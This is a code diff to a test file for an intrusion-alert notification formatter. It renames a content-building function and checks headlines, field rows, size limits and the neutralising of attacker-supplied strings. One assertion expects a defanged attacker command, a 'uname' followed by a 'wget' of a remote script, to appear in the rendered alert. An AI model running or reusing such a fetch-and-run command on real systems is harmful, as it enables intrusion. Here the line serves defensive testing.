@@ -1,24 +1,24 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { toHeadline, toLevel, toPlain, toRecord, toTold } from '../../../src/notify/message/message.ts';
+import { toContent, toHeadline, toLevel, toPlain, toRecord } from '../../../src/notify/message/content.ts';
 import { hostileNotice, hugeNotice, ordinary, unseen } from '../../support/notify/notices.ts';
 
 describe('what a notice says', () => {
   it('tells what, where, who, when, how sure, why, what to do, and links', () => {
-    const told = toTold(ordinary);
+    const content = toContent(ordinary);
     assert.equal(
-      toHeadline(told, 200),
+      toHeadline(content, 200),
       'New incident: 45.9.148.3 guessed the password of root on ssh-dmz-1 after 212 tries',
     );
-    assert.deepEqual(told.rows, [
+    assert.deepEqual(content.rows, [
       { label: 'What', value: 'BruteForce (T1110.001)' },
       { label: 'Where', value: 'ssh on ssh-dmz-1, decoy /srv/finance/payroll.xlsx' },
       { label: 'Who', value: '45.9.148.3' },
       { label: 'When', value: '2026-11-24 10:15 UTC to 2026-11-24 10:21 UTC, 213 events' },
       { label: 'How sure', value: 'risk 9 of 10 (critical), 93 % confident' },
     ]);
-    assert.deepEqual(told.why, ordinary.reasons);
-    const text = toPlain(told);
+    assert.deepEqual(content.why, ordinary.reasons);
+    const text = toPlain(content);
     assert.match(text, /"uname -a; wget http\[:\]\/\/203\.0\.113\.9\/x\[\.\]sh"/);
     assert.match(text, /What to do: Block the address/);
     assert.match(
@@ -28,7 +28,7 @@ describe('what a notice says', () => {
   });
 
   it('leaves out what is not there', () => {
-    const told = toTold({
+    const content = toContent({
       ...ordinary,
       event_count: 1,
       last_seen: ordinary.first_seen,
@@ -40,7 +40,7 @@ describe('what a notice says', () => {
       source_ip: '',
       node_name: '',
     });
-    const text = toPlain(told);
+    const text = toPlain(content);
     assert.match(
       text,
       /What: BruteForce\nWhere: ssh on node-1234567890abcdef\nWho: unknown\nWhen: 2026-11-24 10:15 UTC, once/,
@@ -63,7 +63,7 @@ describe('what a notice says', () => {
   });
 
   it('holds nothing of an attacker that could be seen as something else', () => {
-    const texts = [toPlain(toTold(hostileNotice)), toHeadline(toTold(hostileNotice), 1000)];
+    const texts = [toPlain(toContent(hostileNotice)), toHeadline(toContent(hostileNotice), 1000)];
     for (const text of texts) {
       assert.doesNotMatch(
         text.replaceAll('\n', ' ').replace(/Details: .*/, ''),
@@ -79,9 +79,9 @@ describe('what a notice says', () => {
   });
 
   it('is bounded whatever it is given', () => {
-    assert.ok(toPlain(toTold(hugeNotice('x'))).length < 5000);
+    assert.ok(toPlain(toContent(hugeNotice('x'))).length < 5000);
     assert.ok(JSON.stringify(toRecord(hugeNotice('x'), 'msg_1')).length < 6000);
-    assert.ok(toPlain(toTold(hugeNotice('x'), 0.1)).length < 1500);
+    assert.ok(toPlain(toContent(hugeNotice('x'), 0.1)).length < 1500);
   });
 
   it('gives machines the notice field for field', () => {
